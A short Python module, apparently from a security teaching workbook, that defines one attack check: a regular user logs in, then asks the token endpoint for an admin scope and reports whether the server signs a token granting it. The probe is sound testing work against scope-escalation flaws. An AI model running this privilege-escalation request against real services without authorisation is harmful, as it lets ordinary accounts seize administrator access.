"""Mallory logs in as herself and asks for the scope of an admin.

It works where a login grants what was asked for and never looks at who asks.
"""

from workbook.attacking import Api, NoSuchRoute, attack, forge, reach


@attack(
    "Get the scope of an admin by asking for it",
    route="POST /token",
    closes=10,
    see="RFC 6749 §3.3",
    catches="SC-01",
)
def scope_above_the_role(api: Api) -> str | None:
    mallory = api.mallory
    plain = reach(api.post("/token", form=mallory.credentials, caller=mallory.username)).json
    if not isinstance(plain, dict) or "scope" not in plain:
        raise NoSuchRoute("a login that grants scopes")
    form = {"grant_type": "password", "scope": "notes:read users:admin", **mallory.credentials}
    answer = api.post("/token", form=form, caller=mallory.username).json
    token = answer.get("access_token") if isinstance(answer, dict) else None
    scope = str(forge.claims_of(token).get("scope")) if isinstance(token, str) else ""
    return f"a signed token that says {scope}" if "users:admin" in scope.split() else None
